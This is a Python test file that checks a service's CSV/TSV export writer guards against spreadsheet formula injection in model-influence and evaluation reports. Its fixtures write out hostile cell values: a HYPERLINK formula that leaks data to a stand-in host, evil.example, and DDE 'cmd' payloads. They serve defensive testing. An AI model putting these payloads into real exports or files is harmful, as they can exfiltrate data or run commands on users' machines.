"""Every CSV and TSV export goes through one writer that neutralises formulas: a cell of text starting with
``= + - @``, a tab or a carriage return gets a leading ``'``; numbers the service computed stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from models.tables import TableWriter, safe_cell

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A2,"x")', "+cmd|' /C calc'!A0", "-0.5", "@SUM(A1:A9)",
           "\tx", "\rx"]
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def _assert_neutralised(rows: list[list[str]], hostile: list[str], numeric_columns: set[str]) -> None:
    """No text cell opens as a formula, each hostile text is there with its leading quote, and the columns of
    numbers hold numbers as written (a negative one included)."""
    header, body = rows[0], rows[1:]
    cells = [c for r in body for c in r]
    for value in hostile:
        assert "'" + value in cells, (value, cells[:20])
    for r in body:
        for name, cell in zip(header, r, strict=True):
            if name in numeric_columns:
                if cell:
                    float(cell)  # a number, never quoted
            else:
                assert not cell.startswith(FORMULA), (name, cell)


def test_cells_are_typed_by_origin_not_by_look() -> None:
    assert safe_cell(-0.5) == "-0.5" and safe_cell(-3) == "-3" and safe_cell(float("-inf")) == "-inf"
    assert safe_cell("-0.5") == "'-0.5"  # text that looks like a number is still text from a user
    for value in HOSTILE:
        assert safe_cell(value) == "'" + value
    assert safe_cell("a=b") == "a=b" and safe_cell("") == "" and safe_cell(None) == ""
    assert safe_cell("'=already") == "'=already"

    import numpy as np
    assert safe_cell(np.float32(-0.25)) == "-0.25" and safe_cell(np.int64(-2)) == "-2"


def test_rows_by_column_and_tsv_quoting() -> None:
    fh = io.StringIO(newline="")
    w = TableWriter(fh, ["name", "score"], delimiter="\t", lineterminator="\n")
    w.row({"name": "=1+2", "score": -1.5})
    w.row(["a\tb", None])
    assert _cells(fh.getvalue(), "\t") == [["name", "score"], ["'=1+2", "-1.5"], ["a\tb", ""]]
    with pytest.raises(ValueError, match="unknown columns"):
        w.row({"nope": 1})


# ------------------------------------------------------------------------------------ TracIn on a hostile graph
ENTITIES = ['=HYPERLINK("http://evil.example/?d="&A2,"x")', "-0.5", "@SUM(A1:A9)", "alice", "bob", "carol"]
RELATIONS = ["+knows", "likes"]


@pytest.fixture(scope="module")
def hostile_bundle(tmp_path_factory):
    from models.kg.checkpoint import load
    from models.kg.train import TrainConfig, train_conve
    from models.kg.triples import load_triples_dir

    root = tmp_path_factory.mktemp("hostile-kg")
    train = [(h, r, t) for i, h in enumerate(ENTITIES) for j, r in enumerate(RELATIONS)
             for t in ENTITIES[(i + j + 1) % 6:(i + j + 1) % 6 + 1]]
    (root / "train.txt").write_text("".join(f"{h}\t{r}\t{t}\n" for h, r, t in train))
    (root / "valid.txt").write_text(f"{ENTITIES[0]}\t{RELATIONS[0]}\t{ENTITIES[2]}\n")
    (root / "test.txt").write_text(f"{ENTITIES[1]}\t{RELATIONS[0]}\t{ENTITIES[0]}\n")
    (root / "entity_labels.tsv").write_text("alice\t=cmd()\n")
    ds = load_triples_dir(root, name="hostile")
    out = tmp_path_factory.mktemp("hostile-conve")
    cfg = TrainConfig(epochs=1, batch_size=8, lr=0.01, embedding_dim=20, embedding_height=4, num_filters=2,
                      checkpoint_every=1, seed=0)
    train_conve(ds, cfg, out, device="cpu")
    return load(out, "cpu")


NUMERIC_INFLUENCE = {"TracInScore", "SelfInfluence"}


@pytest.mark.parametrize("mode", ["test", "self"])
def test_influence_csv_neutralises_entity_names_and_labels(hostile_bundle, tmp_path: Path, mode: str) -> None:
    from models.kg.influence import tracin_report

    tests = [[ENTITIES[1], RELATIONS[0], ENTITIES[0]]] if mode == "test" else None
    tracin_report(hostile_bundle, tests, mode=mode, top_k=50, out_dir=tmp_path, device="cpu")
    rows = _cells((tmp_path / "influence.csv").read_text(encoding="utf-8"), ",")
    _assert_neutralised(rows, [ENTITIES[0], ENTITIES[1], ENTITIES[2], RELATIONS[0], "=cmd()"],
                        NUMERIC_INFLUENCE)


def test_candidates_tsv_neutralises_entity_names(hostile_bundle, tmp_path: Path) -> None:
    from models.kg.influence import tracin_report

    tracin_report(hostile_bundle, [[ENTITIES[1], RELATIONS[0], ENTITIES[0]]], mode="test", top_k=None,
                  out_dir=tmp_path, device="cpu")
    rows = _cells((tmp_path / "candidates.tsv").read_text(encoding="utf-8"), "\t")
    _assert_neutralised([["head", "relation", "tail"], *rows], [ENTITIES[0], ENTITIES[1], ENTITIES[2],
                                                                 RELATIONS[0]], set())


# ------------------------------------------------------------------------------------------ the other exports
def test_words_csv_neutralises_words_ids_and_labels() -> None:
    from models.news.summary import WORDS_CSV_COLUMNS, WordsCsv

    fh = io.StringIO(newline="")
    words = ["=1+1", "-2", "@me", "plain"]
    WordsCsv(fh).add("nrms-demo", {"id": "+id", "label": "-label", "words": words, "display_words": words,
                                   "word_attributions": [-0.5, 0.25, -1e-9, 0.0]})
    rows = _cells(fh.getvalue(), ",")
    assert rows[0] == WORDS_CSV_COLUMNS
    _assert_neutralised(rows, ["=1+1", "-2", "@me", "+id", "-label"], {"position", "attribution"})
    assert [r[-1] for r in rows[1:]] == ["-0.5", "0.25", "-1e-09", "0.0"]


def test_lds_per_test_and_corrupted_neutralise_triples(tmp_path: Path) -> None:
    from workers.jobs.evaluate import write_corrupted, write_lds_per_test

    triples = [[ENTITIES[0], RELATIONS[0], ENTITIES[1]], [ENTITIES[2], "likes", "alice"]]
    write_lds_per_test(tmp_path / "lds_per_test.csv", triples, {"tracin": [-0.5, None], "random": [0.1, 0.2]})
    rows = _cells((tmp_path / "lds_per_test.csv").read_text(encoding="utf-8"), "\t")
    assert rows[0] == ["head", "relation", "tail", "tracin", "random"]
    _assert_neutralised(rows, [ENTITIES[0], RELATIONS[0], ENTITIES[1], ENTITIES[2]], {"tracin", "random"})
    assert [r[3:] for r in rows[1:]] == [["-0.5", "0.1"], ["", "0.2"]]

    write_corrupted(tmp_path / "corrupted.tsv", [3, 7], triples, [[ENTITIES[0], RELATIONS[0], "-x"],
                                                                  [ENTITIES[2], "likes", "@y"]])
    rows = _cells((tmp_path / "corrupted.tsv").read_text(encoding="utf-8"), "\t")
    assert rows[0] == ["train_index", "head", "relation", "original_tail", "corrupted_tail"]
    _assert_neutralised(rows, [ENTITIES[0], RELATIONS[0], ENTITIES[1], "-x", "@y"], {"train_index"})


def test_suspects_csv_neutralises_names_and_keeps_scores(tmp_path: Path) -> None:
    import numpy as np

    from workers.jobs.evaluate import SUSPECT_COLUMNS, write_suspects

    triples = [[ENTITIES[0], RELATIONS[0], ENTITIES[1]], [ENTITIES[2], "likes", "@y"]]
    write_suspects(tmp_path / "suspects.csv", {"tracin": np.array([-0.5, 0.25])}, triples, {1: "-x"})
    rows = _cells((tmp_path / "suspects.csv").read_text(encoding="utf-8"), ",")
    assert rows[0] == SUSPECT_COLUMNS
    _assert_neutralised(rows, [ENTITIES[0], RELATIONS[0], ENTITIES[1], ENTITIES[2], "@y", "-x"],
                        {"rank", "train_index", "self_influence"})
    assert [r[1:3] + r[6:] for r in rows[1:]] == [["1", "1", "0.25", "True", "'-x"], ["2", "0", "-0.5", "False", ""]]


def test_metrics_csv_keeps_numbers(tmp_path: Path) -> None:
    from models.vision.train import CSV_COLUMNS, _write_csv

    _write_csv(tmp_path / "metrics.csv", [{c: -0.5 if c == "train_loss" else 1 for c in CSV_COLUMNS}])
    rows = _cells((tmp_path / "metrics.csv").read_text(encoding="utf-8"), ",")
    assert rows[0] == CSV_COLUMNS and rows[1][CSV_COLUMNS.index("train_loss")] == "-0.5"


def test_no_export_writes_csv_on_its_own() -> None:
    """The service's code writes CSV and TSV only through ``models.tables`` (dataset generators excepted)."""
    root = Path(__file__).resolve().parent.parent
    allowed = {"models/tables.py", "models/lora/synthetic.py", "models/news/data.py", "models/hf/demo.py"}
    bad = [str(p.relative_to(root)) for pkg in ("app", "core", "models", "workers", "explainq")
           for p in (root / pkg).rglob("*.py")
           if str(p.relative_to(root)) not in allowed and ("csv.writer" in (t := p.read_text())
                                                           or "DictWriter" in t or '"\\t".join' in t)]
    assert bad == []
